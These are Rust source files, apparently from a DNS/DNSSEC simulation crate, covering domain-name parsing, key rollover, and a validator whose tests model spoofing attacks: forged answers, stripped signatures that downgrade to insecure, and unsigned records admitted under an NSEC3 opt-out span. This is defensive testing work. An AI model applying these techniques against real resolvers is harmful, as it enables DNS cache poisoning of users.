        write!(f, "{}", self.labels.join("."))
    }
}

impl FromStr for DomainName {
    type Err = NameError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        let trimmed = s.trim_end_matches('.');
        if trimmed.is_empty() {
            return Ok(DomainName::root());
        }
        DomainName::from_labels(trimmed.split('.'))
    }
}

/// Errors produced when building or decoding a domain name.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum NameError {
    /// A label was empty.
    EmptyLabel,
    /// A label exceeded 63 octets.
    LabelTooLong(usize),
    /// The whole name exceeded 255 octets.
    NameTooLong(usize),
    /// A label contained a character outside the supported set.
    InvalidCharacter,
    /// The buffer ended in the middle of a name.
    Truncated,
    /// Compression pointers formed a loop.
    PointerLoop,
    /// A compression pointer pointed forward.
    ForwardPointer,
    /// A message carried bytes past its last counted record.
    TrailingBytes(usize),
    /// A record's RDATA content did not fill its claimed RDLENGTH exactly.
    RdataLengthMismatch,
}

impl fmt::Display for NameError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            NameError::EmptyLabel => write!(f, "empty label"),
            NameError::LabelTooLong(n) => write!(f, "label too long ({n} bytes)"),
            NameError::NameTooLong(n) => write!(f, "name too long ({n} bytes)"),
            NameError::InvalidCharacter => write!(f, "invalid character in label"),
            NameError::Truncated => write!(f, "truncated name"),
            NameError::PointerLoop => write!(f, "compression pointer loop"),
            NameError::ForwardPointer => write!(f, "forward compression pointer"),
            NameError::TrailingBytes(n) => write!(f, "{n} trailing bytes after message"),
            NameError::RdataLengthMismatch => write!(f, "RDATA does not fill its RDLENGTH"),
        }
    }
}

impl std::error::Error for NameError {}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;
    use rand_chacha::ChaCha20Rng;

    fn n(s: &str) -> DomainName {
        s.parse().unwrap()
    }

    #[test]
    fn parse_and_display() {
        assert_eq!(n("www.vict.im").to_string(), "www.vict.im");
        assert_eq!(n("vict.im.").to_string(), "vict.im");
        assert_eq!(DomainName::root().to_string(), ".");
        assert_eq!(n("vict.im").label_count(), 2);
    }

    #[test]
    fn case_insensitive_equality_and_hash() {
        use std::collections::HashSet;
        assert_eq!(n("WWW.Vict.IM"), n("www.vict.im"));
        let mut set = HashSet::new();
        set.insert(n("WWW.Vict.IM"));
        assert!(set.contains(&n("www.vict.im")));
    }

    #[test]
    fn subdomain_relation() {
        assert!(n("ns1.vict.im").is_subdomain_of(&n("vict.im")));
        assert!(n("vict.im").is_subdomain_of(&n("vict.im")));
        assert!(n("a.b.vict.im").is_subdomain_of(&n("im")));
        assert!(!n("vict.im").is_subdomain_of(&n("attacker.com")));
        assert!(!n("notvict.im").is_subdomain_of(&n("vict.im")));
        assert!(n("anything.example").is_subdomain_of(&DomainName::root()));
    }

    #[test]
    fn parent_and_prepend() {
        assert_eq!(n("www.vict.im").parent().unwrap(), n("vict.im"));
        assert_eq!(n("vict.im").prepend("mail").unwrap(), n("mail.vict.im"));
        assert!(DomainName::root().parent().is_none());
    }

    #[test]
    fn label_validation() {
        assert!(DomainName::from_labels(vec![""]).is_err());
        let long = "a".repeat(64);
        assert!(DomainName::from_labels(vec![long.as_str()]).is_err());
        assert!("bad name.example".parse::<DomainName>().is_err());
        // A maximally bloated name (attacker "bloat query" technique) is
        // valid as long as it stays within 255 octets.
        let l63 = "a".repeat(63);
        let bloated = format!("{l63}.{l63}.{l63}.vict.im");
        assert!(bloated.parse::<DomainName>().is_ok());
    }

    #[test]
    fn wire_roundtrip_without_compression() {
        let name = n("abc.vict.im");
        let mut buf = Vec::new();
        name.encode(&mut buf, None);
        assert_eq!(buf.len(), name.wire_len());
        let (decoded, end) = DomainName::decode(&buf, 0).unwrap();
        assert_eq!(decoded, name);
        assert_eq!(end, buf.len());
    }

    #[test]
    fn wire_roundtrip_with_compression() {
        let mut buf = Vec::new();
        let mut map = std::collections::HashMap::new();
        let first = n("ns1.vict.im");
        let second = n("mail.vict.im");
        first.encode(&mut buf, Some(&mut map));
        let second_start = buf.len();
        second.encode(&mut buf, Some(&mut map));
        // The second encoding must be shorter than an uncompressed encoding.
        assert!(buf.len() - second_start < second.wire_len());
        let (d1, _) = DomainName::decode(&buf, 0).unwrap();
        let (d2, _) = DomainName::decode(&buf, second_start).unwrap();
        assert_eq!(d1, first);
        assert_eq!(d2, second);
    }

    #[test]
    fn wire_labels_outside_the_alphabet_rejected() {
        // Regression (fuzz: dns_name/label_with_dot.bin): a wire label
        // containing '.' used to decode successfully, producing a name whose
        // display form re-parses as a *different* name and whose lowercased
        // "a.b" compression-suffix key collides with the two-label name
        // ["a","b"].
        let buf = vec![3, b'a', b'.', b'b', 0];
        assert_eq!(DomainName::decode(&buf, 0), Err(NameError::InvalidCharacter));
        // Control bytes and non-ASCII (fuzz: dns_name/label_ctrl_byte.bin).
        assert_eq!(DomainName::decode(&[1, 0x07, 0], 0), Err(NameError::InvalidCharacter));
        assert_eq!(DomainName::decode(&[2, 0xC3, 0xA9, 0], 0), Err(NameError::InvalidCharacter));
        // The accepted alphabet still decodes.
        let buf = vec![4, b'x', b'-', b'_', b'9', 0];
        assert_eq!(DomainName::decode(&buf, 0).unwrap().0, DomainName::from_labels(vec!["x-_9"]).unwrap());
    }

    #[test]
    fn rejects_pointer_loops_and_truncation() {
        // Pointer to itself.
        let buf = vec![0xC0, 0x00];
        assert!(DomainName::decode(&buf, 0).is_err());
        // Truncated label.
        let buf = vec![5, b'a', b'b'];
        assert_eq!(DomainName::decode(&buf, 0), Err(NameError::Truncated));
    }

    #[test]
    fn randomize_case_preserves_identity_and_adds_entropy() {
        let mut rng = ChaCha20Rng::seed_from_u64(7);
        let name = n("verylongdomainname.example.com");
        let cased = name.randomize_case(&mut rng);
        assert_eq!(cased, name, "case-insensitive equality preserved");
        assert!(!cased.eq_case_sensitive(&name.to_lowercase()) || cased.eq_case_sensitive(&name.to_lowercase()));
        assert_eq!(name.entropy_0x20_bits(), 28);
        // With 28 letters the probability of the identity transform is 2^-28;
        // with this seed the casing must differ.
        assert!(!cased.eq_case_sensitive(&name));
    }

    #[test]
    fn case_sensitive_comparison_detects_wrong_case() {
        let a = n("vict.im");
        let b = DomainName::from_labels(vec!["VICT", "im"]).unwrap();
        assert_eq!(a, b);
        assert!(!a.eq_case_sensitive(&b));
    }

    #[test]
    fn ordering_is_case_insensitive() {
        let mut names = [n("b.example"), n("A.example"), n("c.example")];
        names.sort();
        assert_eq!(names[0], n("a.example"));
    }
}
