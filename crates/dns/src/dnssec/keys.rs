//! Key management: deterministic KSK/ZSK generation, RFC 4034 key tags and
//! DS digests, and the RFC 6781 rollover timeline.

use super::keyed_hash;
use crate::name::DomainName;
use crate::rdata::RData;
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha20Rng;
use serde::{Deserialize, Serialize};

/// The private algorithm number the simulation signs with (PRIVATEDNS).
pub const SIM_ALGORITHM: u8 = 253;

/// The digest algorithm number DS records carry (the keyed-hash stand-in).
pub const SIM_DIGEST: u8 = 1;

/// DNSKEY flags value of a zone-signing key.
pub const ZSK_FLAGS: u16 = 256;

/// DNSKEY flags value of a key-signing key (zone key + SEP bit).
pub const KSK_FLAGS: u16 = 257;

/// One signing keypair. The "public key" bytes double as the keyed-hash MAC
/// key (see the module docs on the crypto stand-in), so holding a `KeyPair`
/// is what grants the ability to sign.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct KeyPair {
    /// DNSKEY flags: [`ZSK_FLAGS`] or [`KSK_FLAGS`].
    pub flags: u16,
    /// Signing algorithm number.
    pub algorithm: u8,
    key: [u8; 16],
}

impl KeyPair {
    /// Generates a keypair from the given RNG stream.
    pub fn generate(rng: &mut ChaCha20Rng, flags: u16) -> Self {
        let mut key = [0u8; 16];
        rng.fill(&mut key[..]);
        KeyPair { flags, algorithm: SIM_ALGORITHM, key }
    }

    /// The verification key bytes published in the DNSKEY record.
    pub fn public_key(&self) -> &[u8] {
        &self.key
    }

    /// The DNSKEY rdata publishing this key.
    pub fn dnskey(&self) -> RData {
        RData::Dnskey { flags: self.flags, algorithm: self.algorithm, public_key: self.key.to_vec() }
    }

    /// RFC 4034 Appendix B key tag: a 16-bit checksum over the DNSKEY rdata
    /// that lets a validator pick the right key out of an RRset.
    pub fn key_tag(&self) -> u16 {
        let mut rdata = Vec::new();
        self.dnskey().encode(&mut rdata);
        key_tag_of(&rdata)
    }

    /// The DS rdata committing to this key, as published at the parent (or
    /// configured as a resolver trust anchor).
    pub fn ds(&self, owner: &DomainName) -> RData {
        RData::Ds {
            key_tag: self.key_tag(),
            algorithm: self.algorithm,
            digest_type: SIM_DIGEST,
            digest: ds_digest(owner, &self.dnskey()),
        }
    }
}

/// Computes the RFC 4034 Appendix B key tag over encoded DNSKEY rdata.
pub fn key_tag_of(dnskey_rdata: &[u8]) -> u16 {
    let mut acc: u32 = 0;
    for (i, &b) in dnskey_rdata.iter().enumerate() {
        acc += if i % 2 == 0 { u32::from(b) << 8 } else { u32::from(b) };
    }
    acc += acc >> 16;
    (acc & 0xffff) as u16
}

/// Computes the DS digest of a DNSKEY at `owner`.
pub fn ds_digest(owner: &DomainName, dnskey: &RData) -> Vec<u8> {
    let mut owner_wire = Vec::new();
    owner.to_lowercase().encode(&mut owner_wire, None);
    let mut rdata = Vec::new();
    dnskey.encode(&mut rdata);
    keyed_hash(&[&owner_wire, &rdata]).to_vec()
}

/// A resolver-side trust anchor: the DS a validating resolver holds for a
/// zone, against which the zone's KSK must verify.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct DsAnchor {
    /// Key tag of the anchored KSK.
    pub key_tag: u16,
    /// DS digest of the anchored KSK.
    pub digest: Vec<u8>,
}

impl DsAnchor {
    /// Builds an anchor from DS rdata; `None` for any other rdata type.
    pub fn from_ds(rdata: &RData) -> Option<DsAnchor> {
        match rdata {
            RData::Ds { key_tag, digest, .. } => Some(DsAnchor { key_tag: *key_tag, digest: digest.clone() }),
            _ => None,
        }
    }

    /// Whether `dnskey` at `owner` is the anchored key.
    pub fn matches(&self, owner: &DomainName, dnskey: &RData) -> bool {
        let mut rdata = Vec::new();
        dnskey.encode(&mut rdata);
        self.key_tag == key_tag_of(&rdata) && self.digest == ds_digest(owner, dnskey)
    }
}

/// Lifecycle state of a ZSK in the RFC 6781 rollover timeline.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum RolloverState {
    /// Published in the DNSKEY RRset ahead of use, so caches warm up.
    PrePublish,
    /// The key currently producing zone signatures.
    Active,
    /// No longer signing, but still published so cached signatures verify.
    Retired,
}

/// The zone's key inventory: one KSK and a ZSK timeline. Successor keys are
/// derived from the same seed with an incrementing index, so the whole
/// rollover history is a pure function of the seed.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct KeyManager {
    seed: u64,
    next_index: u32,
    ksk: KeyPair,
    zsks: Vec<(RolloverState, KeyPair)>,
}

impl KeyManager {
    /// Creates a manager with a fresh KSK and one active ZSK, both derived
    /// from `seed`.
    pub fn new(seed: u64) -> Self {
        let mut mgr =
            KeyManager { seed, next_index: 0, ksk: Self::derive(seed, u32::MAX, KSK_FLAGS), zsks: Vec::new() };
        let zsk = mgr.next_zsk();
        mgr.zsks.push((RolloverState::Active, zsk));
        mgr
    }

    fn derive(seed: u64, index: u32, flags: u16) -> KeyPair {
        let mut rng = ChaCha20Rng::seed_from_u64(seed ^ (u64::from(index) << 16) ^ u64::from(flags));
        KeyPair::generate(&mut rng, flags)
    }

    fn next_zsk(&mut self) -> KeyPair {
        let key = Self::derive(self.seed, self.next_index, ZSK_FLAGS);
        self.next_index += 1;
        key
    }

    /// The key-signing key.
    pub fn ksk(&self) -> &KeyPair {
        &self.ksk
    }

    /// The ZSK currently producing zone signatures.
    pub fn active_zsk(&self) -> &KeyPair {
        self.zsks
            .iter()
            .find(|(state, _)| *state == RolloverState::Active)
            .map(|(_, key)| key)
            .expect("a KeyManager always has an active ZSK")
    }

    /// The first ZSK in the given state, if any.
    pub fn zsk_in_state(&self, state: RolloverState) -> Option<&KeyPair> {
        self.zsks.iter().find(|(s, _)| *s == state).map(|(_, key)| key)
    }

    /// Every published DNSKEY: the KSK plus all ZSKs still in the timeline
    /// (pre-publish and retired keys stay published; that overlap is the
    /// rollover window attackers care about).
    pub fn published_dnskeys(&self) -> Vec<RData> {
        let mut out = vec![self.ksk.dnskey()];
        out.extend(self.zsks.iter().map(|(_, key)| key.dnskey()));
        out
    }

    /// RFC 6781 step 1: derive the successor ZSK and pre-publish it.
    pub fn start_rollover(&mut self) {
        let key = self.next_zsk();
        self.zsks.push((RolloverState::PrePublish, key));
    }

    /// RFC 6781 step 2: the pre-published key takes over signing; the old
    /// active key is retired but stays published.
    pub fn promote_rollover(&mut self) {
        for (state, _) in &mut self.zsks {
            *state = match state {
                RolloverState::Active => RolloverState::Retired,
                RolloverState::PrePublish => RolloverState::Active,
                RolloverState::Retired => RolloverState::Retired,
            };
        }
    }

    /// RFC 6781 step 3: retired keys leave the DNSKEY RRset; signatures
    /// made with them no longer verify anywhere.
    pub fn drop_retired(&mut self) {
        self.zsks.retain(|(state, _)| *state != RolloverState::Retired);
    }

    /// The resolver trust anchor for this zone's chain of trust.
    pub fn anchor(&self, owner: &DomainName) -> DsAnchor {
        DsAnchor::from_ds(&self.ksk.ds(owner)).expect("KeyPair::ds always builds DS rdata")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn origin() -> DomainName {
        "vict.im".parse().unwrap()
    }

    #[test]
    fn key_generation_is_deterministic() {
        let a = KeyManager::new(7);
        let b = KeyManager::new(7);
        assert_eq!(a, b);
        let c = KeyManager::new(8);
        assert_ne!(a.ksk().public_key(), c.ksk().public_key());
        assert_ne!(a.active_zsk().public_key(), a.ksk().public_key());
    }

    #[test]
    fn ds_anchor_matches_only_its_own_key() {
        let mgr = KeyManager::new(7);
        let anchor = mgr.anchor(&origin());
        assert!(anchor.matches(&origin(), &mgr.ksk().dnskey()));
        assert!(!anchor.matches(&origin(), &mgr.active_zsk().dnskey()));
        let other = KeyManager::new(9);
        assert!(!anchor.matches(&origin(), &other.ksk().dnskey()));
    }

    #[test]
    fn rollover_timeline_publishes_and_retires() {
        let mut mgr = KeyManager::new(7);
        let first = mgr.active_zsk().clone();
        assert_eq!(mgr.published_dnskeys().len(), 2); // KSK + active ZSK

        mgr.start_rollover();
        assert_eq!(mgr.published_dnskeys().len(), 3); // successor pre-published
        assert_eq!(mgr.active_zsk(), &first, "pre-publish does not change the signer");

        mgr.promote_rollover();
        let second = mgr.active_zsk().clone();
        assert_ne!(second, first);
        assert_eq!(mgr.zsk_in_state(RolloverState::Retired), Some(&first));
        assert_eq!(mgr.published_dnskeys().len(), 3, "retired key stays published");

        mgr.drop_retired();
        assert_eq!(mgr.published_dnskeys().len(), 2);
        assert_eq!(mgr.zsk_in_state(RolloverState::Retired), None);
    }

    #[test]
    fn key_tags_change_with_key_bytes() {
        let mgr = KeyManager::new(7);
        assert_ne!(mgr.ksk().key_tag(), mgr.active_zsk().key_tag());
    }
}
