//! The validating side: DS-anchored DNSKEY verification, per-RRset RRSIG
//! checks, and authenticated denial of existence.
//!
//! [`Validator::validate`] implements the RFC 4035 state machine the
//! simulation needs: a response is `Secure` when every RRset chains to the
//! trust anchor, `Insecure` when the zone has no anchor (or an unsigned
//! RRset is admitted through a verified opt-out NSEC3 span — the opt-out
//! abuse surface), and `Bogus` otherwise.

use super::denial::{base32hex_decode, nsec3_covers, nsec3_hash, nsec_covers, Nsec3Params};
use super::keys::{key_tag_of, DsAnchor};
use super::sign::compute_signature;
use crate::name::DomainName;
use crate::rdata::{RData, RecordType, ResourceRecord};
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;

/// The RFC 4033 validation states the simulation distinguishes.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum Validation {
    /// Every RRset verified up to the trust anchor.
    Secure,
    /// No trust anchor covers the zone (or data was admitted through an
    /// opt-out span); the data is accepted but unauthenticated.
    Insecure,
    /// Validation was attempted and failed; the response must be discarded.
    Bogus(String),
}

impl Validation {
    /// Whether a validating resolver accepts data in this state.
    pub fn accepted(&self) -> bool {
        !matches!(self, Validation::Bogus(_))
    }
}

/// Checks one RRSIG against one RRset and one candidate DNSKEY at time
/// `now_secs` (simulated seconds): validity window, key tag, algorithm,
/// and the recomputed signature over the canonical RRset bytes.
pub fn rrsig_verifies(rrsig: &ResourceRecord, rrset: &[ResourceRecord], dnskey: &RData, now_secs: u32) -> bool {
    let RData::Rrsig {
        type_covered,
        algorithm,
        labels,
        original_ttl,
        expiration,
        inception,
        key_tag,
        signer,
        signature,
    } = &rrsig.rdata
    else {
        return false;
    };
    let RData::Dnskey { algorithm: key_algorithm, public_key, .. } = dnskey else {
        return false;
    };
    if algorithm != key_algorithm || now_secs < *inception || now_secs > *expiration {
        return false;
    }
    let mut key_rdata = Vec::new();
    dnskey.encode(&mut key_rdata);
    if key_tag_of(&key_rdata) != *key_tag {
        return false;
    }
    if rrset.first().map(ResourceRecord::rtype) != Some(*type_covered) {
        return false;
    }
    let expected = compute_signature(
        public_key,
        *type_covered,
        *algorithm,
        *labels,
        *original_ttl,
        *expiration,
        *inception,
        *key_tag,
        signer,
        rrset,
    );
    expected == *signature
}

/// One RRset pulled out of a response, with the RRSIGs that claim to cover
/// it.
struct GroupedSet {
    records: Vec<ResourceRecord>,
    rrsigs: Vec<ResourceRecord>,
    verified: bool,
}

/// A validating resolver's view of one zone: its apex, the DS trust anchor
/// (if any), and the current simulated time.
pub struct Validator {
    zone: DomainName,
    anchor: Option<DsAnchor>,
    now_secs: u32,
}

impl Validator {
    /// Creates a validator for `zone` holding `anchor` at `now_secs`.
    pub fn new(zone: DomainName, anchor: Option<DsAnchor>, now_secs: u32) -> Self {
        Validator { zone, anchor, now_secs }
    }

    /// Validates a full response (answer + authority + additional records
    /// concatenated) to the question `(qname, qtype)`.
    pub fn validate(&self, records: &[ResourceRecord], qname: &DomainName, qtype: RecordType) -> Validation {
        let Some(anchor) = self.anchor.as_ref() else {
            // No chain of trust reaches this zone: classic downgrade
            // territory. The data is accepted, unauthenticated.
            return Validation::Insecure;
        };

        // Group the response into RRsets keyed by (owner, type), with the
        // RRSIGs filed under the type they cover.
        let mut sets: BTreeMap<(String, u16), GroupedSet> = BTreeMap::new();
        for rr in records {
            if rr.rtype() == RecordType::OPT {
                continue;
            }
            let owner = rr.name.to_lowercase().to_string();
            let key = (owner, rr.rdata.covered_type().number());
            let entry = key_entry(&mut sets, key);
            if rr.rtype() == RecordType::RRSIG {
                entry.rrsigs.push(rr.clone());
            } else {
                entry.records.push(rr.clone());
            }
        }

        // Step 1: the DNSKEY RRset at the apex must chain to the anchor.
        let apex = self.zone.to_lowercase().to_string();
        let Some(dnskey_set) = sets.get(&(apex.clone(), RecordType::DNSKEY.number())) else {
            return Validation::Bogus("response carries no DNSKEY RRset at the zone apex".into());
        };
        let Some(anchored_ksk) =
            dnskey_set.records.iter().find(|rr| anchor.matches(&self.zone, &rr.rdata)).map(|rr| rr.rdata.clone())
        else {
            return Validation::Bogus("no published DNSKEY matches the DS trust anchor".into());
        };
        let dnskey_records = dnskey_set.records.clone();
        let dnskey_verified = dnskey_set
            .rrsigs
            .iter()
            .any(|sig| self.signer_is_zone(sig) && rrsig_verifies(sig, &dnskey_records, &anchored_ksk, self.now_secs));
        if !dnskey_verified {
            return Validation::Bogus("DNSKEY RRset does not verify under the anchored KSK".into());
        }

        // Step 2: every other RRset must verify under some published DNSKEY.
        let zone_keys: Vec<RData> = dnskey_records.iter().map(|rr| rr.rdata.clone()).collect();
        let mut verified_nsec: Vec<ResourceRecord> = Vec::new();
        let mut verified_nsec3: Vec<ResourceRecord> = Vec::new();
        let mut unsigned: Vec<(String, u16)> = Vec::new();
        let keys: Vec<(String, u16)> = sets.keys().cloned().collect();
        for key in keys {
            if key == (apex.clone(), RecordType::DNSKEY.number()) {
                sets.get_mut(&(apex.clone(), RecordType::DNSKEY.number())).expect("present").verified = true;
                continue;
            }
            let set = sets.get(&key).expect("present");
            if set.records.is_empty() {
                continue; // stray RRSIG with no covered set; ignore it
            }
            let set_verified = set.rrsigs.iter().any(|sig| {
                self.signer_is_zone(sig)
                    && zone_keys.iter().any(|k| rrsig_verifies(sig, &set.records, k, self.now_secs))
            });
            if set_verified {
                let set = sets.get_mut(&key).expect("present");
                set.verified = true;
                for rr in &set.records {
                    match rr.rtype() {
                        RecordType::NSEC => verified_nsec.push(rr.clone()),
                        RecordType::NSEC3 => verified_nsec3.push(rr.clone()),
                        _ => {}
                    }
                }
            } else if set.rrsigs.is_empty() {
                unsigned.push(key);
            } else {
                return Validation::Bogus(format!(
                    "RRSIG verification failed for {} type {}",
                    set.records[0].name,
                    set.records[0].rtype().number()
                ));
            }
        }

        // Step 3: unsigned RRsets are only tolerated when a *verified*
        // opt-out NSEC3 span covers their owner — RFC 5155 §6's insecure
        // delegation rule, and exactly the gap opt-out abuse drives through.
        let mut downgraded = false;
        for key in &unsigned {
            let owner = &sets[key].records[0].name;
            if self.covered_by_opt_out(owner, &verified_nsec3) {
                downgraded = true;
            } else {
                return Validation::Bogus(format!("unsigned RRset for {} type {} without opt-out cover", owner, key.1));
            }
        }

        // Step 4: a response that does not answer the question must carry
        // an authenticated proof of nonexistence.
        let qkey = qname.to_lowercase().to_string();
        let positive = if qtype == RecordType::ANY {
            sets.iter().any(|((owner, _), s)| *owner == qkey && !s.records.is_empty())
        } else {
            [qtype, RecordType::CNAME]
                .iter()
                .any(|t| sets.get(&(qkey.clone(), t.number())).is_some_and(|s| !s.records.is_empty()))
        };
        if !positive && !self.denial_proven(qname, qtype, &verified_nsec, &verified_nsec3) {
            return Validation::Bogus(format!("denial of existence for {qname} not authenticated"));
        }

        if downgraded {
            Validation::Insecure
        } else {
            Validation::Secure
        }
    }

    fn signer_is_zone(&self, rrsig: &ResourceRecord) -> bool {
        matches!(&rrsig.rdata, RData::Rrsig { signer, .. } if signer.to_lowercase() == self.zone.to_lowercase())
    }

    fn covered_by_opt_out(&self, owner: &DomainName, nsec3s: &[ResourceRecord]) -> bool {
        nsec3s.iter().any(|rr| match &rr.rdata {
            RData::Nsec3 { flags, iterations, salt, next_hashed, .. } if flags & 1 == 1 => {
                let params = Nsec3Params { salt: salt.clone(), iterations: *iterations, opt_out: true };
                let target = nsec3_hash(owner, &params);
                owner_hash_of(rr).is_some_and(|own| nsec3_covers(&own, next_hashed, &target))
            }
            _ => false,
        })
    }

    fn denial_proven(
        &self,
        qname: &DomainName,
        qtype: RecordType,
        nsecs: &[ResourceRecord],
        nsec3s: &[ResourceRecord],
    ) -> bool {
        let nsec_proof = nsecs.iter().any(|rr| match &rr.rdata {
            RData::Nsec { next, types } => {
                if rr.name.to_lowercase() == qname.to_lowercase() {
                    // NoData: the name exists but the type is absent.
                    !types.contains(&qtype)
                } else {
                    // NXDOMAIN: the span strictly covers the name.
                    nsec_covers(&rr.name, next, qname)
                }
            }
            _ => false,
        });
        if nsec_proof {
            return true;
        }
        nsec3s.iter().any(|rr| match &rr.rdata {
            RData::Nsec3 { iterations, salt, next_hashed, types, .. } => {
                let params = Nsec3Params { salt: salt.clone(), iterations: *iterations, opt_out: false };
                let qhash = nsec3_hash(qname, &params);
                let Some(own) = owner_hash_of(rr) else { return false };
                if own == qhash {
                    !types.contains(&qtype)
                } else {
                    nsec3_covers(&own, next_hashed, &qhash)
                }
            }
            _ => false,
        })
    }
}

fn key_entry(sets: &mut BTreeMap<(String, u16), GroupedSet>, key: (String, u16)) -> &mut GroupedSet {
    sets.entry(key).or_insert_with(|| GroupedSet { records: Vec::new(), rrsigs: Vec::new(), verified: false })
}

/// Decodes the hash out of an NSEC3 owner name's first label.
fn owner_hash_of(rr: &ResourceRecord) -> Option<Vec<u8>> {
    rr.name.labels().first().and_then(|label| base32hex_decode(label))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::dnssec::denial::{nsec3_chain, nsec_chain};
    use crate::dnssec::keys::KeyManager;
    use crate::dnssec::sign::{Signer, SigningPolicy};
    use netsim::prelude::SimTime;

    fn n(s: &str) -> DomainName {
        s.parse().unwrap()
    }

    fn a(s: &str) -> RData {
        RData::A(s.parse().unwrap())
    }

    /// Builds a minimal signed response: DNSKEY RRset + RRSIG, plus the
    /// given RRset and its RRSIG.
    fn signed_response(keys: &KeyManager, rrset: &[ResourceRecord]) -> Vec<ResourceRecord> {
        let policy = SigningPolicy::default();
        let signer = Signer::new(keys, &policy, n("vict.im"));
        let dnskeys: Vec<ResourceRecord> =
            keys.published_dnskeys().into_iter().map(|rd| ResourceRecord::new(n("vict.im"), 300, rd)).collect();
        let mut out = Vec::new();
        out.push(signer.sign_rrset(&dnskeys, SimTime::ZERO));
        out.extend(dnskeys);
        if !rrset.is_empty() {
            out.push(signer.sign_rrset(rrset, SimTime::ZERO));
            out.extend(rrset.iter().cloned());
        }
        out
    }

    #[test]
    fn genuine_signed_answer_is_secure() {
        let keys = KeyManager::new(7);
        let anchor = keys.anchor(&n("vict.im"));
        let rrset = vec![ResourceRecord::new(n("www.vict.im"), 300, a("30.0.0.80"))];
        let response = signed_response(&keys, &rrset);
        let v = Validator::new(n("vict.im"), Some(anchor.clone()), 0);
        assert_eq!(v.validate(&response, &n("www.vict.im"), RecordType::A), Validation::Secure);
    }

    #[test]
    fn forged_rdata_is_bogus() {
        let keys = KeyManager::new(7);
        let anchor = keys.anchor(&n("vict.im"));
        let rrset = vec![ResourceRecord::new(n("www.vict.im"), 300, a("30.0.0.80"))];
        let mut response = signed_response(&keys, &rrset);
        // The off-path attacker swaps the address after signing.
        for rr in &mut response {
            if rr.rtype() == RecordType::A {
                rr.rdata = a("6.6.6.6");
            }
        }
        let v = Validator::new(n("vict.im"), Some(anchor.clone()), 0);
        assert!(matches!(v.validate(&response, &n("www.vict.im"), RecordType::A), Validation::Bogus(_)));
    }

    #[test]
    fn stripped_rrsigs_are_bogus_with_anchor_insecure_without() {
        let keys = KeyManager::new(7);
        let anchor = keys.anchor(&n("vict.im"));
        let rrset = vec![ResourceRecord::new(n("www.vict.im"), 300, a("6.6.6.6"))];
        let response: Vec<ResourceRecord> =
            signed_response(&keys, &rrset).into_iter().filter(|rr| rr.rtype() != RecordType::RRSIG).collect();
        let anchored = Validator::new(n("vict.im"), Some(anchor.clone()), 0);
        assert!(matches!(anchored.validate(&response, &n("www.vict.im"), RecordType::A), Validation::Bogus(_)));
        // Without a DS anchor the same stripped response sails through as
        // Insecure — the downgrade-to-insecure attack in one assertion.
        let unanchored = Validator::new(n("vict.im"), None, 0);
        assert_eq!(unanchored.validate(&response, &n("www.vict.im"), RecordType::A), Validation::Insecure);
    }

    #[test]
    fn wrong_zone_key_is_bogus() {
        let keys = KeyManager::new(7);
        let other = KeyManager::new(99);
        let anchor = keys.anchor(&n("vict.im"));
        let rrset = vec![ResourceRecord::new(n("www.vict.im"), 300, a("6.6.6.6"))];
        // Signed consistently, but by a key hierarchy the anchor never blessed.
        let response = signed_response(&other, &rrset);
        let v = Validator::new(n("vict.im"), Some(anchor.clone()), 0);
        assert!(matches!(v.validate(&response, &n("www.vict.im"), RecordType::A), Validation::Bogus(_)));
    }

    #[test]
    fn nsec_denial_is_required_and_sufficient() {
        let keys = KeyManager::new(7);
        let anchor = keys.anchor(&n("vict.im"));
        let v = Validator::new(n("vict.im"), Some(anchor.clone()), 0);

        // An empty negative answer without proof is bogus.
        let bare = signed_response(&keys, &[]);
        assert!(matches!(v.validate(&bare, &n("nope.vict.im"), RecordType::A), Validation::Bogus(_)));

        // Adding the signed covering NSEC makes the denial authentic.
        let chain = nsec_chain(
            &[
                (n("vict.im"), vec![RecordType::SOA, RecordType::NS]),
                (n("mail.vict.im"), vec![RecordType::A]),
                (n("www.vict.im"), vec![RecordType::A]),
            ],
            300,
        );
        let covering = chain.into_iter().find(|rr| rr.name.to_lowercase() == n("mail.vict.im")).expect("span exists");
        let policy = SigningPolicy::default();
        let signer = Signer::new(&keys, &policy, n("vict.im"));
        let mut proven = signed_response(&keys, &[]);
        proven.push(signer.sign_rrset(std::slice::from_ref(&covering), SimTime::ZERO));
        proven.push(covering);
        assert_eq!(v.validate(&proven, &n("nope.vict.im"), RecordType::A), Validation::Secure);
        // The same proof does not cover a name that exists.
        assert!(matches!(v.validate(&proven, &n("www.vict.im"), RecordType::A), Validation::Bogus(_)));
    }

    #[test]
    fn opt_out_span_admits_unsigned_rrset_as_insecure() {
        let keys = KeyManager::new(7);
        let anchor = keys.anchor(&n("vict.im"));
        let params = Nsec3Params::standard(true);
        let chain = nsec3_chain(
            &[(n("vict.im"), vec![RecordType::SOA]), (n("www.vict.im"), vec![RecordType::A])],
            &params,
            &n("vict.im"),
            300,
        );
        let rogue = n("rogue.vict.im");
        let covering = chain
            .iter()
            .find(|rr| match &rr.rdata {
                RData::Nsec3 { next_hashed, .. } => {
                    let own = owner_hash_of(rr).expect("base32hex owner");
                    nsec3_covers(&own, next_hashed, &nsec3_hash(&rogue, &params))
                }
                _ => false,
            })
            .expect("one span covers the rogue name")
            .clone();
        let policy = SigningPolicy::nsec3(true);
        let signer = Signer::new(&keys, &policy, n("vict.im"));
        let mut response = signed_response(&keys, &[]);
        response.push(signer.sign_rrset(std::slice::from_ref(&covering), SimTime::ZERO));
        response.push(covering);
        // The forged, unsigned answer rides in under the opt-out span.
        response.push(ResourceRecord::new(rogue.clone(), 300, a("6.6.6.6")));
        let v = Validator::new(n("vict.im"), Some(anchor.clone()), 0);
        assert_eq!(v.validate(&response, &rogue, RecordType::A), Validation::Insecure);

        // Without the opt-out flag the same unsigned RRset is bogus.
